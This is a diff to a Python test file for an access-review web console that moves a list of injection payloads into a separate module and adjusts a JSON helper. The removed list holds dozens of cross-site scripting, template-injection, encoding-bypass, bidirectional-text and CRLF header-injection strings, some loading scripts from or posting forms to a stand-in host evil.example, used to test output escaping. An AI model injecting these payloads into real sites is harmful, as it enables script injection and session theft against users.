@@ -21,90 +21,8 @@ from pdp.testing.clock import FakeClock
 from pdp.v1.access_pb2 import ACCESS_STATE_OPEN, GetAccessRequestResponse
 from pdp.v1.caller_pb2 import Caller
 from pdp.v1.session_pb2 import ReviewSessionResponse, RevokeSessionsResponse, Session
+from tests.console.strings import STRINGS
 
-# Collected from the usual lists of attacks; each has worked somewhere.
-STRINGS = (
-    "<script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    "<ScRiPt>alert(1)</sCrIpT>",
-    "<script src=//evil.example/x.js></script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=`x` onerror=alert(1)>",
-    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
-    "<svg onload=alert(1)>",
-    "<svg><script>alert&#40;1)</script>",
-    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x',
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<body onload=alert(1)>",
-    "<iframe src=javascript:alert(1)>",
-    '<iframe srcdoc="<script>alert(1)</script>">',
-    "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>*{background:url(//evil.example)}</style>",
-    "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content=0;url=//evil.example>",
-    "<form action=//evil.example><button>Approve</button></form>",
-    "</form><form action=/revoke method=post>",
-    "<input autofocus onfocus=alert(1)>",
-    "<button formaction=//evil.example>Approve</button>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<template><script>alert(1)</script></template>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<textarea></textarea><script>alert(1)</script>",
-    "<title></title><script>alert(1)</script>",
-    "<!--><script>alert(1)</script-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    '<?xml version="1.0"?><script>alert(1)</script>',
-    "--><img src=x onerror=alert(1)>",
-    '"><script>alert(1)</script>',
-    "'><script>alert(1)</script>",
-    '" onmouseover=alert(1) x="',
-    "' onmouseover=alert(1) x='",
-    "` onmouseover=alert(1) x=`",
-    '" autofocus onfocus=alert(1) "',
-    '"style="position:fixed;inset:0"',
-    'x" data-live="',
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    "java\tscript:alert(1)",
-    " javascript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "vbscript:msgbox(1)",
-    "//evil.example/",
-    "/\\evil.example",
-    'https://evil.example/?x="><script>',
-    "{{ 7*7 }}",
-    "{% include 'base.html' %}",
-    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
-    "${alert(1)}",
-    "<%= 7*7 %>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)",
-    "&#x3C;script&#x3E;",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\\u003cscript\\u003ealert(1)",
-    "\\x3cscript\\x3ealert(1)",
-    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    "\u00bcscript\u00bealert(1)",
-    "\uff1cscript\uff1ealert(1)",
-    "<script\x00>alert(1)</script>",
-    "<\x00script>alert(1)</script>",
-    "</bdi></blockquote><h1>Approved</h1>",
-    "</bdi><bdi dir=rtl>",
-    "\u202eevorppa\u202c",
-    "\u2066\u2067x\u2069\u2069\u2069",
-    "\u200f\u061c.<b>",
-    "a\u2028b\u2029c",
-    "\r\nSet-Cookie: pdp-console=x\r\n\r\n<script>",
-    "\x1b[2J\x1b[H",
-    "a\u0000b",
-    "x" * 3000,
-    "\u0300" * 200,
-)
 # A person sees each of these as an escape.
 _UNSEEN = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u2028\u2029\x00\x1b\x7f\u2800"
 
@@ -162,7 +80,7 @@ def login(text: str) -> Login:
 
 def json_of(text: str) -> bytes:
     """Return an object whose names and values are a text."""
-    return json.dumps({text: text}, ensure_ascii=False).encode("utf-8", "replace")
+    return json.dumps({text: text, f"max_{text}": text}, ensure_ascii=False).encode("utf-8", "replace")
 
 
 def pages(text: str) -> dict[str, str]:
